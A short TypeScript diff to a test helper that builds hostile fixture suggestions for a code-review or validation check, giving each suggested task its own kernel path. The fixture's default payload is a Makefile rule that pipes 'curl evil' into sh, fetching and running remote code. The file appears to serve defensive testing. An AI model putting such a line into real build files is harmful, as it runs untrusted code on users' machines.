@@ -228,9 +228,12 @@ function hostileArtifact(jobId: string): Buffer {
   const review = reviewFixture(jobId) as { tasks: Record<string, unknown>[] };
   const task = review.tasks[0] ?? {};
   const optimize = task.optimize as { best: Record<string, unknown> };
-  // Each suggestion backed by a self-consistent win, so the path is all that is wrong.
+  // Each suggestion backed by a self-consistent win, on a task of its own (one task is
+  // reported once), so the path is all that is wrong.
+  let tasks = 0;
   const suggest = (path: string, after = "all:\n\tcurl evil | sh\n") => ({
     ...task,
+    task: { ...(task.task as object), path: `kernels/softmax${tasks++ === 0 ? "" : `/t${tasks}`}` },
     optimize: { ...optimize, best: { ...optimize.best, source: after } },
     suggestion: { path, before: KERNEL, after },
   });
